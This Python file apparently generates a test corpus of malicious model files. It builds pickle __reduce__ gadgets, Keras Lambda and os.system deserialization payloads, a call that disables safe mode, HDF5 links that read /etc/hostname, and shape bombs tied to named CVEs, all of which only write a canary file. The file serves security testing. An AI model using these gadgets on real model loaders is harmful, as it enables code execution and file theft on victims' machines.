"""What attackers put into files of Keras, HDF5, NumPy and pickle; what runs writes a canary."""

import base64
import io
import json
import marshal
import pickle
import zipfile
from pathlib import Path

import h5py
import numpy as np

# Where each payload would leave its mark, in the folder in which the corpus is made.
CANARY = "PWNED"


class Opens:
    """An object that writes the canary when it is unpickled."""

    def __init__(self, canary: Path):
        self.canary = str(canary)

    def __reduce__(self):
        return open, (self.canary, "w")


def pickled(canary: Path) -> bytes:
    return pickle.dumps(Opens(canary))


def lambda_layer(canary: Path) -> dict:
    """Return the layer of CVE-2024-3660: Python bytecode in a configuration."""
    code = compile(f"open({str(canary)!r}, 'w')", "<lambda>", "eval")
    body = base64.b64encode(marshal.dumps(code)).decode()
    value = {
        "class_name": "__lambda__",
        "config": {"code": body, "defaults": None, "closure": None},
    }
    return {"module": "keras.layers", "class_name": "Lambda", "config": {"function": value}}


def tfsm_layer(folder: Path) -> dict:
    """Return the layer of CVE-2026-1462: a SavedModel from elsewhere."""
    config = {"filepath": str(folder), "call_endpoint": "serve"}
    return {"module": "keras.layers", "class_name": "TFSMLayer", "config": config}


def unsafe_gadget() -> dict:
    """Return the call of CVE-2025-9906, which turns the safe mode off."""
    name = "enable_unsafe_deserialization"
    return {"class_name": "function", "module": "keras.config", "config": name,
            "registered_name": name}  # fmt: skip


def module_gadget(canary: Path) -> dict:
    """Return the call of CVE-2025-1550: any function of any module."""
    return {"class_name": "function", "module": "os", "config": "system",
            "registered_name": "system", "args": [f"touch {canary}"]}  # fmt: skip


def keras_config(*layers: dict) -> dict:
    """Return the `config.json` of a functional Keras model with these layers."""
    return {"module": "keras", "class_name": "Functional", "config": {"layers": list(layers)},
            "registered_name": "Functional"}  # fmt: skip


def keras_file(*layers: dict) -> bytes:
    """Return a `.keras` file with these layers."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(keras_config(*layers)))
        archive.writestr("model.weights.h5", hdf5(lambda group: None))
    return file.getvalue()


def hdf5(fill) -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as group:
        fill(group)
    return file.getvalue()


def external_link(group) -> None:
    """CVE-2026-1669: another file's data as this one's."""
    group["layer"] = h5py.ExternalLink("/etc/hostname", "/")


def external_storage(group) -> None:
    """CVE-2026-1669: the bytes of any file as weights."""
    group.create_dataset("kernel", (8,), "u1", external=[("/etc/hostname", 0, 8)])


def virtual_data(group) -> None:
    layout = h5py.VirtualLayout((8,), "u1")
    layout[:] = h5py.VirtualSource("/etc/hostname", "kernel", (8,))
    group.create_virtual_dataset("kernel", layout)


def shape_bomb(group) -> None:
    """CVE-2026-0897: a shape of terabytes that takes no room in the file."""
    group.create_dataset("kernel", (2**20, 2**20), "f4", chunks=(1024, 1024))


def legacy_model(canary: Path):
    """CVE-2025-9905: a whole model in an old HDF5 file, for which there was no safe mode."""

    def fill(group):
        group.attrs["model_config"] = json.dumps(keras_config(lambda_layer(canary)))

    return fill


def object_npy(canary: Path) -> bytes:
    """Return an array of objects, which NumPy would unpickle."""
    file = io.BytesIO()
    np.save(file, np.array([Opens(canary)], object), allow_pickle=True)
    return file.getvalue()


def object_npz(canary: Path) -> bytes:
    file = io.BytesIO()
    np.savez(file, kernel=np.array([Opens(canary)], object))
    return file.getvalue()


def endless_npy() -> bytes:
    """Return 80 bytes that claim to be 32 GiB."""
    text = b"{'descr':'<f8','fortran_order':False,'shape':(4294967296,)}"
    return (b"\x93NUMPY\x01\x00" + (70).to_bytes(2, "little") + text.ljust(69) + b"\n")[:80]
